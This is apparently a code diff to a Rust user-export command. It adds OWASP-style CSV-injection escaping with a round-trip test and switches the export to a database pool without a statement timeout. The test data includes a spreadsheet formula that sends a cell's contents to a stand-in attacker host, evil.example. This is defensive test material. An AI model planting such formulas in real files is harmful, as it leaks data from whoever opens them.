@@ -42,7 +42,9 @@ const COLUMNS: [&str; 11] = [
 
 pub async fn run(args: ExportArgs, settings: &Settings) -> anyhow::Result<ExitCode> {
     // Read-only: no migration (an export must not change the database it reads).
-    let pool = db::side_pool(&settings.database, "export", 1)?;
+    // One streamed statement, as long as the pool is large and the reader slow: no statement
+    // bound.
+    let pool = db::unbounded_side_pool(&settings.database, "export", 1)?;
     let mut conn = pool.acquire().await?;
     let stdout = BufWriter::with_capacity(1 << 16, std::io::stdout().lock());
     let mut sink = match args.format {
@@ -117,14 +119,25 @@ fn io_error(e: csv::Error) -> std::io::Error {
     }
 }
 
-/// A JSON value as a CSV cell: text as it is, null as an empty cell, booleans as `true` /
-/// `false`, objects and lists as JSON.
+/// A JSON value as a CSV cell: text as it is (neutralised, see [`neutralise`]), null as an
+/// empty cell, booleans as `true` / `false`, objects and lists as JSON.
 fn cell(value: &Value) -> String {
     match value {
         Value::Null => String::new(),
-        Value::String(s) => s.clone(),
+        Value::String(s) => neutralise(s),
         Value::Bool(b) => b.to_string(),
         other => other.to_string(),
+    }
+}
+
+/// A text cell that a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return: OWASP's "CSV injection"), and one that starts with `'`, get a `'`
+/// in front: a spreadsheet shows the text, and `users import` takes exactly one leading `'` off
+/// every text cell (see `cli::import`), so the round trip gives back the value as stored.
+pub(crate) fn neutralise(text: &str) -> String {
+    match text.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{text}"),
+        _ => text.to_owned(),
     }
 }
 
@@ -143,5 +156,26 @@ mod tests {
             r#"{"employee_id":"E1"}"#
         );
         assert_eq!(cell(&json!([])), "[]");
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_neutralised() {
+        for (stored, written) in [
+            (
+                r#"=HYPERLINK("http://evil.example/?x="&A2,"click")"#,
+                r#"'=HYPERLINK("http://evil.example/?x="&A2,"click")"#,
+            ),
+            ("+8613800138000", "'+8613800138000"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("'quoted", "''quoted"),
+            ("张三", "张三"),
+            ("a=b", "a=b"),
+        ] {
+            assert_eq!(cell(&json!(stored)), written, "{stored:?}");
+            assert_eq!(crate::cli::import::unneutralise(written), stored);
+        }
     }
 }
